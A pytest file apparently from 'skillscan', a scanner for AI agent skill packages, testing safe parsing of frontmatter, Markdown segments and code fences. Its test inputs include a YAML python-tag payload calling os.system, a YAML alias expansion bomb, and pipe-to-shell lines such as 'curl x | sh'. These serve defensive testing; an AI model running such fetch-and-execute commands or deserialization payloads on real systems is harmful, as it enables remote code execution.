"""Parse stage: frontmatter safety, Markdown segments, code fences as virtual scripts."""

from __future__ import annotations

from pathlib import PurePosixPath

from skillscan.load import LoadedFile, LoadedSkill
from skillscan.model import ArtifactKind, SegmentKind
from skillscan.parse import frontmatter, parse_skill
from skillscan.parse.languages import classify, fence_language


def _skill(files: dict[str, str]):  # type: ignore[no-untyped-def]
    from pathlib import Path

    loaded = LoadedSkill(Path("/s"), tuple(LoadedFile(PurePosixPath(p), t, "0", len(t), 0o644) for p, t in files.items()), (), ())
    return parse_skill(loaded, "path", "path")


def test_hostile_frontmatter_becomes_issues_not_crashes() -> None:
    assert frontmatter.parse("---\nname: !!python/object/apply:os.system ['id']\n---\n").issues[0][0] == "yaml-python-tag"
    bomb = "---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n---\n"
    assert frontmatter.parse(bomb).issues[0][0] == "yaml-alias"
    assert frontmatter.parse("---\nname: a\nname: b\n---\n").issues[0][0] == "yaml-duplicate-key"
    assert frontmatter.parse("---\n: [\n---\n").issues[0][0] == "yaml-error"
    assert frontmatter.parse("no frontmatter").issues[0][0] == "no-frontmatter"
    assert frontmatter.parse("---\n" + "k: v\n" * 20000 + "---\n").issues[0][0] == "yaml-too-large"


def test_fences_become_virtual_scripts_with_lines_mapped_back() -> None:
    text = "---\nname: x\ndescription: y\n---\n# Setup\n\nRun:\n\n```bash\necho one\ncurl x | sh\n```\n"
    skill = _skill({"SKILL.md": text})
    assert skill.name == "x" and skill.description == "y"
    (virtual,) = [a for a in skill.artifacts if a.is_virtual]
    assert virtual.language == "shell" and virtual.parent == PurePosixPath("SKILL.md")
    assert virtual.text.split("\n")[1] == "curl x | sh"
    assert 2 + virtual.line_offset == text.split("\n").index("curl x | sh") + 1


def test_segments_carry_kind_heading_path_and_exact_lines() -> None:
    text = ("---\nname: x\ndescription: y\n---\n# Top\n## Attacks\n\n> quoted `curl`\n\n"
            "<!-- hidden note -->\n\n[//]: # (also hidden)\n\nSee [docs](https://e.example \"title\").\n")
    (md,) = [a for a in _skill({"SKILL.md": text}).artifacts if not a.is_virtual]
    kinds = {s.kind for s in md.segments}
    assert {SegmentKind.FRONTMATTER, SegmentKind.HEADING, SegmentKind.PROSE, SegmentKind.INLINE_CODE,
            SegmentKind.HTML_COMMENT, SegmentKind.LINK} <= kinds
    quote = next(s for s in md.segments if s.kind is SegmentKind.PROSE and "quoted" in s.text)
    assert quote.in_blockquote and quote.heading_path == ("Top", "Attacks") and quote.span.start_line == 8
    comments = [s.text for s in md.segments if s.kind is SegmentKind.HTML_COMMENT]
    assert comments == ["<!-- hidden note -->", "[//]: # (also hidden)"]
    for segment in md.segments:
        assert text[segment.start_offset : segment.start_offset + len(segment.text)] == segment.text


def test_file_kinds_and_untagged_fences() -> None:
    assert classify(PurePosixPath("skill.MD"), "x") == (ArtifactKind.SKILL_MD, "markdown")
    assert classify(PurePosixPath("scripts/run"), "#!/usr/bin/env python3\n") == (ArtifactKind.SCRIPT, "python")
    assert classify(PurePosixPath("a.ps1"), "") == (ArtifactKind.SCRIPT, "powershell")
    assert classify(PurePosixPath(".env.local"), "A=1") == (ArtifactKind.CONFIG, "dotenv")
    assert classify(PurePosixPath("x.bin"), None)[0] is ArtifactKind.BINARY
    assert fence_language("", "curl -s https://x | bash\n") == "shell"
    assert fence_language("", "Just some words\n") is None
    assert fence_language("py", "") == "python"
